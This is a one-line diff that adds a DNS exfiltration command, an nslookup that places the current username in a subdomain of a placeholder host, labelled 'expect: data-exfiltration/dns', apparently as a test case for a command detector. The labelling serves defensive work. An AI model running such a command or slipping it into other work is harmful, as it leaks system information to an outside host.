@@ -1,0 +1,1 @@
+nslookup "$(whoami).x.collect.example" # expect: data-exfiltration/dns
